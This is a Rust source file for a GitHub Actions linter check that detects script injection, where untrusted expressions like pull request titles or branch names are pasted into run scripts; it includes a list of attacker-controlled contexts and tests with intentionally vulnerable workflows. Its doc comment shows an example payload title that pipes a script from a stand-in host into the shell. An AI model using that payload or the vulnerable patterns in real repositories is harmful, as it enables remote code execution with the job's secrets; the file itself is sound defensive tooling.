use srehub_core::{Check, Findings};
use srehub_model::ci::CiKind;
use srehub_model::yaml::Node;

use super::{CiInput, Cursor, expressions, gha_steps};

srehub_core::declare_check! {
    /// ## What it checks
    /// `${{ … }}` expressions in a `run:` script (of a workflow step or a composite action step, and the
    /// `script` of `actions/github-script`) that expand text an attacker controls: issue, pull request,
    /// comment, review and discussion titles and bodies, commit messages and authors, branch names
    /// (`github.head_ref`, `github.event.pull_request.head.ref`, `github.event.workflow_run.head_branch`),
    /// wiki page names, and in a composite action its `inputs.*`. The finding points at the expression
    /// itself, inside a multi-line script.
    ///
    /// ## Why it matters
    /// GitHub substitutes expressions into the script text before the shell runs it. A pull request
    /// titled `a"; curl evil.sh | sh; echo "` becomes code, running with the job's token and secrets.
    /// Branch names can contain `$(…)` too, and anyone can open an issue on a public repository.
    ///
    /// ## How to fix
    /// Pass the value through an environment variable and quote it in the script:
    /// `env: { TITLE: "${{ github.event.pull_request.title }}" }` with `run: echo "$TITLE"`. The shell
    /// then treats it as data.
    GHA005 ScriptInjectionInRun { name: "script-injection-in-run", severity: Critical, category: Security, group: "ci" }
}

/// Attacker-controlled contexts, lower-case, `*` standing for any one segment (an array index).
const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.head_ref",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

impl Check<CiInput<'_>> for ScriptInjectionInRun {
    fn run(&self, input: &CiInput<'_>, out: &mut Findings) {
        let composite = match input.kind() {
            CiKind::GithubWorkflow => false,
            CiKind::GithubAction => true,
            CiKind::GitlabCi => return,
        };
        for step in gha_steps(input.file) {
            let script = step.node.get("run").map(|n| (n, "run")).or_else(|| {
                let uses = step.node.get("uses").and_then(Node::as_str)?;
                uses.trim()
                    .to_ascii_lowercase()
                    .starts_with("actions/github-script@")
                    .then(|| step.node.at(&["with", "script"]))
                    .flatten()
                    .map(|n| (n, "github-script"))
            });
            let Some((node, what)) = script else {
                continue;
            };
            let Some(text) = node.as_str() else {
                continue;
            };
            let mut cursor = Cursor::new(input.file, node);
            for (full, inner) in expressions(text) {
                let bad = untrusted_paths(inner, composite);
                if bad.is_empty() {
                    continue;
                }
                let pos = cursor.find(full);
                let owner = match step.job {
                    Some(j) => format!("job `{j}`"),
                    None => "the composite action".to_string(),
                };
                let script = if what == "run" {
                    "the `run` script"
                } else {
                    "the `actions/github-script` script"
                };
                let whose = if bad.iter().all(|p| p.starts_with("inputs")) {
                    "whoever calls the action controls"
                } else {
                    "an outside contributor controls"
                };
                out.push(
                    input
                        .at(
                            &Self::META,
                            pos,
                            format!(
                                "`{}` in {script} of a step of {owner} is pasted into the code before it runs, and {whose} `{}`",
                                super::shorten(full),
                                bad.join("`, `")
                            ),
                        )
                        .hint(
                            "Pass the value through an environment variable \
                             (`env: { VALUE: \"${{ … }}\" }`) and use \"$VALUE\" in the script",
                        ),
                );
            }
        }
    }
}

/// The attacker-controlled context paths an expression reads, as written (lower-cased).
fn untrusted_paths(expr: &str, composite: bool) -> Vec<String> {
    paths(expr)
        .into_iter()
        .filter(|p| {
            let segs: Vec<&str> = p.split('.').collect();
            (composite && segs[0] == "inputs")
                || UNTRUSTED
                    .iter()
                    .any(|u| matches_pattern(&segs, &u.split('.').collect::<Vec<_>>()))
        })
        .collect()
}

/// Whether a context path reads (part of) an untrusted pattern: it follows the pattern to its end
/// (`github.event.issue.title`, `github.event.head_commit.author.name`), or stops on an object that
/// holds it (`toJSON(github.event.issue)`).
fn matches_pattern(path: &[&str], pattern: &[&str]) -> bool {
    path.iter()
        .zip(pattern)
        .all(|(a, b)| *a == "*" || *b == "*" || a == b)
}

/// The context paths of an expression: `github.event.commits[0].message` reads as
/// `github.event.commits.*.message`, `github.event['issue']['title']` as `github.event.issue.title`.
/// String literals are skipped.
fn paths(expr: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut chars = expr.chars().peekable();
    let flush = |cur: &mut String, out: &mut Vec<String>| {
        let p = cur.trim_matches('.').to_ascii_lowercase();
        if p.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
            out.push(p);
        }
        cur.clear();
    };
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                flush(&mut cur, &mut out);
                // A string literal; `''` is an escaped quote inside it.
                while let Some(q) = chars.next() {
                    if q == '\'' {
                        if chars.peek() == Some(&'\'') {
                            chars.next();
                        } else {
                            break;
                        }
                    }
                }
            }
            '[' if !cur.is_empty() => {
                let mut index = String::new();
                for q in chars.by_ref() {
                    if q == ']' {
                        break;
                    }
                    index.push(q);
                }
                let index = index.trim();
                let key = index
                    .strip_prefix('\'')
                    .and_then(|s| s.strip_suffix('\''))
                    .filter(|k| !k.is_empty() && !k.contains('.'));
                cur.push('.');
                cur.push_str(key.unwrap_or("*"));
            }
            c if c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '*') => cur.push(c),
            _ => flush(&mut cur, &mut out),
        }
    }
    flush(&mut cur, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ci::testing::{action, positions, workflow};

    #[test]
    fn paths_are_normalised() {
        assert_eq!(
            paths("toJSON(github.event.commits[0].message) || 'github.head_ref'"),
            ["tojson", "github.event.commits.*.message"]
        );
        assert_eq!(
            paths("github.event['issue']['title']"),
            ["github.event.issue.title"]
        );
        assert_eq!(
            untrusted_paths(" github.event.pull_request.head.sha ", false).len(),
            0
        );
        assert_eq!(
            untrusted_paths("toJSON(github.event.issue)", false).len(),
            1
        );
        assert_eq!(untrusted_paths("inputs.name", false).len(), 0);
        assert_eq!(untrusted_paths("inputs.name", true).len(), 1);
    }

    #[test]
    fn triggers_on_untrusted_expressions() {
        let text = "\
on: issues
jobs:
  triage:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo \"triaging\"
          echo \"${{ github.event.issue.title }}\" > title.txt
      - run: echo ${{ github.head_ref }} ${{ github.sha }}
      - uses: actions/github-script@v7
        with:
          script: |
            console.log(\"${{ github.event.comment.body }}\")
";
        let found = workflow(&ScriptInjectionInRun, text);
        assert_eq!(positions(&found), [(8, 17), (9, 19), (13, 26)]);
        insta::assert_yaml_snapshot!(found);
    }

    #[test]
    fn triggers_on_inputs_in_composite_actions() {
        let text = "\
name: greet
runs:
  using: composite
  steps:
    - shell: bash
      run: >
        echo hello
        ${{ inputs.who }}
";
        let found = action(&ScriptInjectionInRun, text);
        assert_eq!(positions(&found), [(8, 9)]);
        assert!(found[0].message.contains("whoever calls the action"));
    }

    #[test]
    fn quiet_when_values_go_through_env() {
        let text = "\
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - env:
          TITLE: ${{ github.event.pull_request.title }}
        run: echo \"$TITLE\" ${{ github.event.pull_request.number }}
      - run: echo ${{ inputs.name }} ${{ github.event.pull_request.head.sha }}
";
        assert!(workflow(&ScriptInjectionInRun, text).is_empty());
    }
}
